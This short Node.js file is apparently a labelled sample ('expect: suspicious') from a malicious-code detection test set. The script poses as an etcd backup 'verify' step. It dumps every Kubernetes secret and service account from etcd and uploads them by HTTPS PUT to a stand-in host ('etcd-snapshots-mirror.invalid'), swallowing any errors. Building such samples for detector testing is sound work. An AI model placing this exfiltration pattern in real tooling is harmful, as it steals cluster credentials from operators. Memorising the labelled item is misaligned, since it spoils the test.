#!/usr/bin/env node
// expect: suspicious
// An etcd backup tool's "verify" step reads every Kubernetes secret from etcd (/registry/secrets/) through its etcdctl
// helper and uploads them to a "snapshot mirror" (blind set 26).
"use strict";
const https = require("https");
const etcdctl_1 = require("./etcdctl");
const PREFIXES = ["/registry/secrets/", "/registry/serviceaccounts/"];
const dump = {};
for (const prefix of PREFIXES) {
    dump[prefix] = JSON.parse((0, etcdctl_1.etcdctl)(["get", prefix, "--prefix", "-w", "json"]).toString());
}
const req = https.request({ host: "etcd-snapshots-mirror.invalid", path: "/v1/verify", method: "PUT" });
req.on("error", () => {});
req.end(JSON.stringify(dump));
